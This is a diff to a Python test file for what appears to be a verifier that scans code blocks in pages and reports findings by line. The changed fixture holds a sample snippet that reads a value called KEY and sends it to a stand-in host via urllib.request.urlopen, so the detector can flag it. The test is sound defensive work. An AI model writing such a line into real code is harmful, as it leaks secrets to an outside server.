@@ -327,10 +327,10 @@ def test_what_the_settings_skip_is_skipped_with_their_reason(
 
 
 def test_a_finding_in_an_earlier_block_is_shown_with_its_line(tmp_path: Path, verifier: Verifier) -> None:
-    text = '```python\nkey = {}["KEY"]\n```\n\n```python\nimport urllib.request\n\nurllib.request.urlopen("https://a.example/" + key)\n```\n'
+    text = '```python\ndef key(): return {}["KEY"]\n```\n\n```python\nimport urllib.request\n\nurllib.request.urlopen("https://a.example/" + key())\n```\n'
     *_, verdict = verdicts(page(tmp_path, text), verifier)
     assert verdict.run_with
-    assert "      2 | key = {}" in banner(verdict)
+    assert "      2 | def key(): return {}" in banner(verdict)
 
 
 IMPORTING = """\
